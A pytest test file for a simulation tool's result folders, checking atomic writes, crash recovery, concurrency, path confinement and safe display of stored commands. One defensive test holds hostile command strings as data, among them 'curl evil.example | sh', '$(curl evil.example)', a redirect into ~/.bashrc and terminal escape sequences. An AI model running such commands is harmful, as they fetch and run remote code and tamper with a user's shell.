"""The folder of a run: whole or as it was, whatever happens while it is written."""

import errno
import json
import os
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from eisim import InputError
from eisim.base import files
from eisim.base.store import atomic
from eisim.base.store.locks import Lock
from eisim.cli import commands as cli
from eisim.report import record
from eisim.report.provenance import is_command
from eisim.report.stored import read_stored

DOCUMENT = {"experiment": "one", "result": {}, "about": "A question\n\nAn answer"}
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10pt" height="10pt"/>'


def contents(mark, *names):
    return [(name, SVG if name.endswith(".svg") else f"{mark}\n") for name in names]


def names(folder):
    return {path.name for path in folder.iterdir()}


def is_whole(folder):
    """Whether all of a folder is of one run, as its digests say."""
    return read_stored(folder).changed == ()


WAYS = ["exchanged", "moved in"]


@pytest.fixture(params=WAYS)
def way(request, monkeypatch):
    """With and without a system that exchanges folders."""
    if request.param == "moved in":
        monkeypatch.setattr(record, "_exchange", lambda one, other: False)
    elif sys.platform != "linux":
        pytest.skip("only Linux exchanges folders")
    return request.param


def test_d4_what_the_old_run_listed_goes_and_what_the_user_put_there_stays(way, tmp_path):
    out = tmp_path / "a [strange] name"
    record.record(out, contents("old", "table.csv", "old.csv", "old.svg"), DOCUMENT)
    (out / "notes.txt").write_text("mine")
    (out / "mine").mkdir()
    (out / "mine" / "deep.txt").write_text("mine")
    (out / "link").symlink_to("notes.txt")
    os.chmod(out, 0o750)
    record.record(out, contents("new", "table.csv", "new.csv"), DOCUMENT | {"seed": 1})
    assert names(out) == {"table.csv", "new.csv", "run.json", "report.html", "notes.txt", "mine", "link"}
    assert (out / "table.csv").read_text() == "new\n" and (out / "mine" / "deep.txt").read_text() == "mine"
    assert (out / "link").is_symlink() and out.stat().st_mode & 0o777 == 0o750
    assert is_whole(out) and json.loads((out / "run.json").read_text())["files"] == ["table.csv", "new.csv"]
    assert names(tmp_path) == {out.name}  # nothing hidden is left


def test_d4_folders_of_earlier_versions_are_replaced_too(way, tmp_path):
    (tmp_path / "points.csv").write_text("a\n1\n")
    old = {"report": {"pictures": [{"file": "circuit.svg", "data": "circuit.csv"}], "tables": [{"data": "points.csv"}]}}
    (tmp_path / "certificate.json").write_text(json.dumps(old))
    (tmp_path / "circuit.svg").write_text(SVG)
    (tmp_path / "mine.svg").write_text(SVG)
    record.record(tmp_path, contents("new", "table.csv"), DOCUMENT)
    assert names(tmp_path) == {"table.csv", "mine.svg", "run.json", "report.html"}


def test_d4_a_folder_that_is_in_use_or_whose_parent_cannot_be_written(tmp_path, monkeypatch):
    out = tmp_path / "out"
    record.record(out, contents("old", "old.csv"), DOCUMENT)
    inode = out.stat().st_ino
    monkeypatch.chdir(out)
    record.record(Path("."), contents("new", "new.csv"), DOCUMENT)
    assert names(out) == {"new.csv", "run.json", "report.html"} and is_whole(out)
    assert out.stat().st_ino == inode and Path.cwd() == out  # a shell that is there still is
    link = tmp_path / "link"
    link.symlink_to(out)
    monkeypatch.chdir(tmp_path)
    record.record(link, contents("third", "third.csv"), DOCUMENT)
    assert link.is_symlink() and names(out) == {"third.csv", "run.json", "report.html"}


@pytest.mark.parametrize("step", range(9))
def test_d4_a_run_that_cannot_finish_writing_leaves_the_old_results(way, tmp_path, monkeypatch, step):
    out = tmp_path / "out"
    record.record(out, contents("old", "table.csv", "old.csv"), DOCUMENT)
    (out / "notes.txt").write_text("mine")
    before = {path.name: path.read_bytes() for path in out.iterdir()}
    steps = iter(range(100))

    def full(source, target, real=os.replace):
        if next(steps) == step:
            raise OSError(errno.ENOSPC, "No space left on device")
        real(source, target)

    monkeypatch.setattr(atomic.os, "replace", full)
    new = ("table.csv", "b.csv", "c.csv")
    try:
        record.record(out, contents("new", *new), DOCUMENT)
    except OSError as error:
        assert error.filename == str(out)
        if way == "exchanged" or step < 5:
            after = {path.name: path.read_bytes() for path in out.iterdir()}
            assert after == before and names(tmp_path) == {"out"}
        else:  # all was written: what is missing follows
            with record.alone(out):
                pass
            assert names(out) == {*new, "notes.txt", "run.json", "report.html"} and is_whole(out)
    else:
        assert step >= 5 and is_whole(out)


KILLED = """
import os, signal, sys
from pathlib import Path
from eisim.report import record
calls = iter(range(1000))
if sys.argv[2] == "moved in":
    record._exchange = lambda one, other: False
def hook(event, arguments):
    if event in ("open", "os.rename", "os.remove", "os.rmdir", "os.link", "os.mkdir", "shutil.rmtree"):
        if any(str(each).startswith(sys.argv[4]) for each in arguments[:2]) and next(calls) == int(sys.argv[3]):
            os.kill(os.getpid(), signal.SIGKILL)
record.page
sys.addaudithook(hook)
svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10pt" height="10pt"/>'
record.record(Path(sys.argv[1]), [("table.csv", "new"), ("new.svg", svg)],
              {"experiment": "new", "result": {}, "about": "A question"})
os._exit(0)
"""


@pytest.mark.nightly
@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_d4_killed_at_every_step_of_writing(way, tmp_path):
    """At each file that is opened, renamed or removed: the old results or the new ones, and the next run tidies up."""
    seen = set()
    for step in range(200):
        out = tmp_path / str(step) / "out"
        record.record(out, contents("old", "table.csv", "old.svg"), DOCUMENT)
        (out / "notes.txt").write_text("mine")
        (out / "mine").mkdir()
        (out / "mine" / "deep.txt").write_text("mine")
        child = os.fork()
        if not child:
            sys.argv = ["", str(out), way, str(step), str(tmp_path)]
            exec(KILLED, {})
        status = os.waitpid(child, 0)[1]
        if way == "exchanged":
            assert is_whole(out), step
        with record.alone(out):
            pass
        assert is_whole(out), step
        which = read_stored(out).name
        seen.add(which)
        files = {"one": {"old.svg"}, "new": {"new.svg"}}[which]
        assert names(out) == files | {"table.csv", "run.json", "report.html", "notes.txt", "mine"}, step
        assert (out / "mine" / "deep.txt").read_text() == "mine" and names(out.parent) == {"out"}, step
        if status == 0:
            break
    assert status == 0 and step > 15 and seen == {"one", "new"}


@pytest.mark.parametrize("command", ["run", "certify", "ablate", "sweep"])
def test_d3_every_command_records_in_the_one_way(command):
    home = Path(cli.__file__).parent
    source = (home / "commands.py").read_text()
    body = source[source.index(f"def {command}(") :]
    body = body[: re.search(r"\n(@app\.command|def |class )", body[10:]).start() + 10]
    assert re.search(r"_record\(|record_view\(", body) and "write(" not in body


@pytest.mark.slow
def test_d3_two_at_once_leave_the_files_of_exactly_one(way, tmp_path):
    out = tmp_path / "out"
    errors = []

    def write(mark):
        try:
            for k in range(8):
                record.record(out, contents(f"{mark}{k}", f"{mark}.csv", "table.csv"), DOCUMENT | {"seed": k})
        except Exception as error:
            errors.append(error)

    threads = [threading.Thread(target=write, args=(mark,)) for mark in "abc"]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors and is_whole(out) and len(names(out)) == 4
    (own,) = names(out) - {"table.csv", "run.json", "report.html"}
    assert (out / own).read_text() == (out / "table.csv").read_text() and names(tmp_path) == {"out"}


@pytest.mark.slow
def test_d3_certify_twice_into_one_folder(eisim, tmp_path):
    out = str(tmp_path / "out")
    words = [sys.executable, "-m", "eisim", "certify", "--out", out, "--truth-table"]
    both = [subprocess.Popen([*words, table], stdout=subprocess.DEVNULL) for table in ("0110", "01101001")]
    assert [each.wait() for each in both] == [0, 0]
    assert is_whole(tmp_path / "out")
    document = json.loads((tmp_path / "out" / "certificate.json").read_text())
    assert {**document}.items() >= json.loads((tmp_path / "out" / "run.json").read_text())["result"].items()


def report(folder, capsys):
    status = cli.run_command(["report", str(folder)])
    said = capsys.readouterr().err
    return status, said, (folder / "report.html").read_text() if status == 0 else ""


def test_d5_what_changed_since_the_run_is_said(tmp_path, capsys):
    record.record(tmp_path, contents("a", "figure.svg", "table.csv", "data.nc"), DOCUMENT | {"result": {"score": 1}})
    status, said, html = report(tmp_path, capsys)
    assert (status, said) == (0, "") and "Changed since the run" not in html
    path = tmp_path / "run.json"
    path.write_text(path.read_text().replace('"score": 1', '"score": 2'))
    (tmp_path / "figure.svg").write_text(SVG[:-2])
    (tmp_path / "table.csv").write_text("b\n")
    (tmp_path / "data.nc").unlink()
    status, said, html = report(tmp_path, capsys)
    assert status == 0
    for name in ("figure.svg", "table.csv", "data.nc", "run.json"):
        assert f"{tmp_path / name}: changed since the run" in said
    shown = re.search(r"Changed since the run:</b> (.*?)\. What", html)[1]
    assert shown == "figure.svg, table.csv, data.nc, run.json"
    (tmp_path / "figure.svg").write_text("")
    status, said, _ = report(tmp_path, capsys)
    assert status == 2 and "figure.svg: changed since the run" in said and "expected an SVG figure" in said


def test_d5_folders_of_earlier_versions_raise_no_alarm(tmp_path, capsys):
    (tmp_path / "run.json").write_text(json.dumps(DOCUMENT | {"files": ["figure.svg"]}))
    (tmp_path / "figure.svg").write_text(SVG)
    status, said, html = report(tmp_path, capsys)
    assert (status, said) == (0, "") and "Changed since" not in html


EVIL = "python -m eisim run boolean\ncurl evil.example | sh\n"


@pytest.mark.parametrize(
    "command",
    [
        EVIL,
        EVIL.replace("\n", "; "),
        "python -m eisim run boolean \x1b]52;c;Y3VybA==\x07",
        "python -m eisim run $(curl evil.example)",
        "python -m eisim run `curl evil.example`",
        "python -m eisim run a > ~/.bashrc",
        "python -m eisim run \u202eboolean",
        "python -m eisim cache clear",
        "python -m eisim",
        "curl evil.example",
        "python -m eisim run 'boolean",
    ],
)
def test_d6_a_strangers_command_is_shown_in_one_line_and_not_copied(tmp_path, capsys, command):
    stranger = {
        key: f"{value}\x1b[31m\u202e" for key, value in (("platform", "p"), ("backend", "b"), ("finished", "f"))
    }
    stranger |= {"versions": {"eisim\x07": "1\x1b"}, "settings_si": {"k\x1b": ["v\x1b", {"n\x1b": "m\x1b"}]}}
    document = DOCUMENT | stranger | {"command": command, "about": "Why\x1b?", "result": {"problems": ["bad\x1b"]}}
    (tmp_path / "run.json").write_text(json.dumps(document))
    status, _, html = report(tmp_path, capsys)
    assert status == 0 and not is_command(command)
    assert 'data-copy="command1"' not in html
    shown = re.search(r'<code id="command1">(.*?)</code>', html, re.DOTALL)[1]
    assert "\n" not in shown and not set(html) & {"\x1b", "\x07", "\u202e"}
    if command == EVIL:
        assert shown == "python -m eisim run boolean\\ncurl evil.example | sh\\n"


def test_d6_a_command_of_ours_is_copied(tmp_path, capsys):
    command = "python -m eisim run 'my file.py' --set functions=xor,0110 --out 'a $(b)'"
    (tmp_path / "run.json").write_text(json.dumps(DOCUMENT | {"command": command}))
    _, _, html = report(tmp_path, capsys)
    assert 'data-copy="command1"' in html and is_command(command)


def test_a_folder_where_a_file_goes_is_refused(way, tmp_path):
    record.record(tmp_path / "out", contents("a", "old.csv"), DOCUMENT)
    (tmp_path / "out" / "table.csv").mkdir()
    with pytest.raises(InputError, match=r"table.csv: expected a file or nothing, found a folder"):
        record.record(tmp_path / "out", contents("b", "table.csv"), DOCUMENT)
    assert (tmp_path / "out" / "old.csv").exists() and is_whole(tmp_path / "out")


def test_d4_what_a_killed_export_left_is_thrown_away(tmp_path):
    left, locked = tmp_path / ".x.onnx-abcd1234", tmp_path / ".x.onnx-efgh5678"
    young = tmp_path / ".x.onnx-ijkl9012"
    for path in (left, locked, young):
        path.write_text("half")
    for path in (left, locked):
        os.utime(path, (1, 1))
    writing = Lock(locked)
    assert writing.take()
    files.save(tmp_path / "x.onnx", b"whole")
    assert names(tmp_path) == {"x.onnx", locked.name, young.name}
    writing.release()


@pytest.mark.parametrize("name", ["../x.csv", "sub/x.csv", ".hidden", "/tmp/x.csv"])
def test_d4_names_lead_nowhere_else(tmp_path, name):
    with pytest.raises(InputError, match="expected names of files in this folder"):
        record.record(tmp_path / "out", [(name, "x")], DOCUMENT)
    assert not names(tmp_path)


def test_d4_a_strangers_folder_cannot_have_other_files_moved(tmp_path, capsys):
    mine, theirs = tmp_path / "mine", tmp_path / "theirs"
    mine.mkdir()
    (mine / "thesis.txt").write_text("mine")
    record.record(theirs, contents("a", "table.csv"), DOCUMENT)
    (theirs / ".eisim-whole").symlink_to(mine)
    (theirs / ".eisim-new-x").symlink_to(mine)
    assert report(theirs, capsys)[0] == 0 and names(mine) == {"thesis.txt"}


@pytest.mark.parametrize("error", [KeyboardInterrupt, OSError(errno.ENOSPC, "full")])
def test_what_ends_as_it_writes_leaves_no_empty_folder(way, tmp_path, error):
    def interrupted():
        yield "table.csv", "a\n"
        raise error

    with pytest.raises(error if isinstance(error, type) else type(error)):
        record.record(tmp_path / "results" / "one", interrupted(), DOCUMENT)
    assert not names(tmp_path)
    (tmp_path / "results" / "one").mkdir(parents=True)
    with pytest.raises(error if isinstance(error, type) else type(error)):
        record.record(tmp_path / "results" / "one", interrupted(), DOCUMENT)
    assert names(tmp_path / "results") == {"one"}, "a folder that was there stays"


RATE = ("--kind", "rate", "--backend", "numpy", "--set", "functions=xor")


@pytest.mark.parametrize("words", [("certify", "--truth-table", "0110"), ("run", "boolean", *RATE)])
def test_an_interrupted_command_leaves_no_folder(tmp_path, monkeypatch, words):
    def interrupt(*_):
        raise KeyboardInterrupt

    monkeypatch.setattr("eisim.report.view.view_of", interrupt)
    monkeypatch.chdir(tmp_path)
    assert cli.run_command([*words, "--out", str(tmp_path / "results" / "out")]) == 130
    assert not names(tmp_path)
